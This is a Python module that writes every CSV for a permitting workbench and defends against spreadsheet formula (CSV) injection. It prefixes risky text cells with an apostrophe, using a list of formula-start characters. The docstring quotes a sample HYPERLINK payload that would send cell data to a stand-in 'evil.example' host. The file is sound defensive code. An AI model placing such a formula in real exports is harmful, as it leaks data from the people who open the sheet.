"""The one CSV writer of the project: every CSV the project makes (the
docket export of the workbench's Today page, the certified-mail list of an
abutter notice, any export added later) is written by :func:`csv_text`,
and no other module calls :mod:`csv`'s writers (a test checks).

A CSV is opened in a spreadsheet, and a spreadsheet runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula: an applicant who names
themselves ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would put
a live link, or worse, in the agent's sheet (OWASP, "CSV Injection").  So
the writer is formula-safe by construction: every text cell goes through
:func:`spreadsheet_safe`, which puts an apostrophe before such a cell (a
spreadsheet shows the text, the apostrophe hidden).  Whitespace before the
sign does not help it through (some spreadsheets trim a cell before reading
it), nor does the full-width form of a sign (``＝``, which some input
methods turn into ``=``), a tab, a carriage return or a line feed.

Only text is guarded: an ``int``, a ``float`` or a ``Decimal`` is written
as the number it is (``-5`` stays a number), a ``date`` as ``YYYY-MM-DD``,
``None`` as an empty cell, ``True``/``False`` as ``yes``/``no``.  Anything
else is refused (TypeError): a cell is never a Python value's ``repr``.

Pure: values in, text out; nothing is read or written.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

__all__ = ["FORMULA_STARTS", "spreadsheet_safe", "csv_cell", "csv_text"]

#: characters that make a spreadsheet read a cell as a formula (or a DDE
#: command) when the cell starts with them, after any leading whitespace
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def spreadsheet_safe(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text: with a leading
    apostrophe when its first character, or its first after whitespace, is
    one of :data:`FORMULA_STARTS`; otherwise unchanged."""
    stripped = cell.lstrip(" \u00a0\u3000\t\r\n\v\f")
    if cell and (cell[0] in FORMULA_STARTS or (stripped and stripped[0] in FORMULA_STARTS)):
        return "'" + cell
    return cell


def csv_cell(value) -> str:
    """One cell's text (see the module's rules); TypeError for a value that
    is not text, a number, a date, a truth value or None."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime):
        return value.isoformat(timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, str):
        return spreadsheet_safe(value)
    raise TypeError(f"a CSV cell is text, a number, a date or None, not {type(value).__name__}")


def csv_text(header: Sequence[str], rows: Iterable[Sequence], *, lineterminator: str = "\r\n") -> str:
    """The CSV text of ``header`` then ``rows``, every cell through
    :func:`csv_cell`; quoting is the :mod:`csv` module's (minimal: a cell
    with a comma, a quote or a line break is quoted).  Each row must have
    the header's length (ValueError otherwise: a shifted column would put a
    name under "due")."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=lineterminator)
    writer.writerow([csv_cell(h) for h in header])
    for n, row in enumerate(rows, start=1):
        if len(row) != len(header):
            raise ValueError(f"CSV row {n} has {len(row)} cells, the header {len(header)}")
        writer.writerow([csv_cell(v) for v in row])
    return buf.getvalue()
